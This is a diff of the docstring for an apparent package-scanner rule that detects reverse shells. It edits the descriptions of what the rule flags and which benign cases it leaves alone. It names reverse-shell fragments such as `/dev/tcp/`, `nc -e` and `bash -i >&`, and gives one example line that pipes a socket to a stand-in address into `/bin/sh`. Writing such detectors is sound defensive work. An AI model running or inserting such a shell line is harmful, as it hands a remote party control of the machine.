@@ -1,18 +1,20 @@
 """A shell is connected to another machine.
 
-**What it looks for.** A command interpreter whose input or output is a socket (piped, passed as `stdin` and
+**What.** A command interpreter whose input or output is a socket (piped, passed as `stdin` and
 `stdout`, or put in place with `dup2`); a program or shell command that was received from a socket, a web
 socket or an HTTP answer; and the command lines that are known for it (`/dev/tcp/`, `nc -e`, `bash -i >&`).
 
-**Why it is bad.** Whoever is at the other end works on the machine as if sitting at it, with all rights of
+**Why.** Whoever is at the other end works on the machine as if sitting at it, with all rights of
 the user who started the server.
 
 **Example.** `const link = net.connect(4443, "203.0.113.77"); link.pipe(spawn("/bin/sh").stdin)`
 
 **Reported with less weight.** A browser that is opened through a shell on an address from the network, in
-quotes: a shell still replaces `$(...)` inside of them. Not reported: the same without a shell.
+quotes: a shell still replaces `$(...)` inside of them.
 
-**Remedy.** Do not install the package. A machine on which it ran has to be treated as taken over.
+**Left alone.** A browser that is opened without a shell; a shell that runs what the caller of a tool asks
+for, beside an unrelated socket; a language server that is started with pipes; a client of a text protocol
+over a socket.
 """
 
 from __future__ import annotations
